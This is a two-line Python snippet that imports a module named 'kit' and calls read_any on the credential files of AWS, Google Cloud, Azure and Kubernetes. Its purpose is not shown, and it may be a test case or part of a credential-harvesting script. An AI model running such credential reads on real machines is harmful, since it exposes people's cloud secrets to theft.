from kit import *

read_any(".aws/credentials", ".config/gcloud/credentials.db", ".azure/accessTokens.json", ".kube/config")
